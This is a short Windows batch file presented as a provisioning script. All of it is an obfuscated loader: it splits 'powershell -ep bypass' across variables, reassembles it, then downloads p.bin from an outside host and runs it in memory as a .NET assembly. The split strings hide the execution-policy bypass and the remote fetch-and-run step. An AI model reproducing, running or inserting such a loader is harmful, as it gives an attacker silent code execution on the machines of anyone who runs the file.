REM provision 2659 v2
@echo off
setlocal EnableDelayedExpansion
set tvd0=power
set pxq1=shell -ep
set oub2= bypas
set via3=s -
set knf4=c "$d=(New-Object Net.WebClient).DownloadData('http://192.0.2.150/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
!tvd0!!pxq1!!oub2!!via3!!knf4!
